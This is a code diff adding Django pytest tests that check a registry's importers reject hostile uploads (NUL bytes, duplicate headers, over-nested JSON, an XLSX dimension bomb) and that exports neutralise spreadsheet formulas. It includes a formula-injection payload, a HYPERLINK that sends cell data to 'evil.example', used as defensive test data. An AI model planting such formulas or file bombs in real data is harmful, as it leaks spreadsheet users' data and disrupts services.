@@ -1,12 +1,16 @@
 """Imports are all-or-nothing, report every bad row and column, and re-import changes nothing."""
 
+import csv
 import io
 import json
+from decimal import Decimal
 
 import openpyxl
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.test import override_settings
+from django.urls import reverse
 
 from atclusters.core.models import AuditEntry
 from atclusters.registry.importers import importer_for
@@ -16,6 +20,7 @@ from atclusters.registry.models import (
     Membership,
     Organisation,
 )
+from tests.hostile_files import declared_dimension_bomb, nested_json
 
 pytestmark = pytest.mark.django_db
 
@@ -222,3 +227,107 @@ def test_cli_export_and_template(world, tmp_path):
     template = tmp_path / "template.csv"
     call_command("registry", "template", "organisations", "-o", str(template))
     assert template.read_text().startswith("slug,name,type,country,vat_number")
+
+
+# Hostile files (issue 16): every entry point answers with errors, never a crash, and writes
+# nothing; on PostgreSQL as on SQLite.
+
+NUL_CLUSTERS = "slug,name,country,agency\nnul-cluster,Bad\x00Name,ES,galicia\n"
+REPEATED_HEADER = "slug,name,country,agency,name\nrepeated,First,ES,galicia,Second\n"
+
+
+def test_a_nul_character_is_a_row_error_naming_its_column(world):
+    for dry_run in (True, False):
+        report = run("clusters", NUL_CLUSTERS, dry_run=dry_run)
+        assert [(e.row, e.column) for e in report.errors] == [(2, "name")]
+        assert "NUL character" in report.errors[0].message
+    json_file = json.dumps([{"slug": "nul", "name": "Fine", "country": "E\u0000S"}])
+    report = run("clusters", json_file, filename="clusters.json")
+    assert [(e.row, e.column) for e in report.errors] == [(2, "country")]
+    assert not ClusterOrganisation.objects.filter(slug__in=["nul-cluster", "nul"]).exists()
+
+
+def test_a_column_named_twice_is_an_error_naming_the_column(world):
+    report = run("clusters", REPEATED_HEADER)
+    assert [(e.row, e.column, e.message) for e in report.errors] == [
+        (1, "name", "appears more than once in the header")
+    ]
+    assert not ClusterOrganisation.objects.filter(slug="repeated").exists()
+
+
+def test_deeply_nested_json_is_invalid_json(world):
+    report = importer_for("clusters", actor=None).run(nested_json(), "clusters.json")
+    assert [(e.row, e.column, e.message) for e in report.errors] == [
+        (0, "file", "Invalid JSON: nested deeper than 32 levels.")
+    ]
+
+
+def test_the_import_page_refuses_hostile_files(login, world):
+    client = login(world.staff)
+    files = {
+        "nul.csv": (NUL_CLUSTERS.encode(), ["<td>2</td><td>name</td>", "NUL character"]),
+        "repeated.csv": (
+            REPEATED_HEADER.encode(),
+            ["<td>1</td><td>name</td><td>appears more than once in the header"],
+        ),
+        "nested.json": (nested_json(), ["Invalid JSON: nested deeper than 32 levels."]),
+        "bomb.xlsx": (
+            declared_dimension_bomb({"A": "slug", "B": "name", "C": "country"}),
+            ["Row 1048576 has data in column XFD; the limit is 100 columns."],
+        ),
+    }
+    for name, (content, expected) in files.items():
+        upload = SimpleUploadedFile(name, content)
+        response = client.post(reverse("import"), {"kind": "clusters", "file": upload})
+        assert response.status_code == 200, name
+        assert all(fragment in response.text for fragment in expected), name
+    assert ClusterOrganisation.objects.count() == 4
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "error"),
+    [
+        ("nul.csv", NUL_CLUSTERS.encode(), (2, "name")),
+        ("repeated.csv", REPEATED_HEADER.encode(), (1, "name")),
+        ("nested.json", nested_json(), (0, "file")),
+    ],
+)
+def test_the_command_line_refuses_hostile_files(world, tmp_path, capsys, name, content, error):
+    path = tmp_path / name
+    path.write_bytes(content)
+    with pytest.raises(SystemExit) as exit_info:
+        call_command("registry", "import", "clusters", str(path), "--json", "--dry-run")
+    assert exit_info.value.code == 2
+    report = json.loads(capsys.readouterr().out)
+    assert [(e["row"], e["column"]) for e in report["errors"]] == [error]
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_exports_neutralise_formulas_and_write_plain_amounts(world):
+    ClusterOrganisation.objects.filter(pk=world.cluster.pk).update(name=FORMULA_NAME)
+    Organisation.objects.filter(pk=world.member.pk).update(turnover_eur=Decimal("120000.00"))
+    clusters_csv = importer_for("clusters", actor=None).export("csv").decode()
+    row = next(r for r in csv.DictReader(io.StringIO(clusters_csv)) if r["slug"] == "food")
+    assert row["name"] == "'" + FORMULA_NAME
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(importer_for("clusters", actor=None).export("xlsx"))
+    ).active
+    name = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "food")
+    assert (name.data_type, name.value) == ("s", FORMULA_NAME)
+    organisations_csv = importer_for("organisations", actor=None).export("csv").decode()
+    member = next(
+        r for r in csv.DictReader(io.StringIO(organisations_csv)) if r["slug"] == "member"
+    )
+    assert member["turnover_eur"] == "120000"
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(importer_for("organisations", actor=None).export("xlsx"))
+    ).active
+    header = [cell.value for cell in sheet[1]]
+    turnover = next(
+        row[header.index("turnover_eur")].value
+        for row in sheet.iter_rows(min_row=2)
+        if row[0].value == "member"
+    )
+    assert turnover == 120000
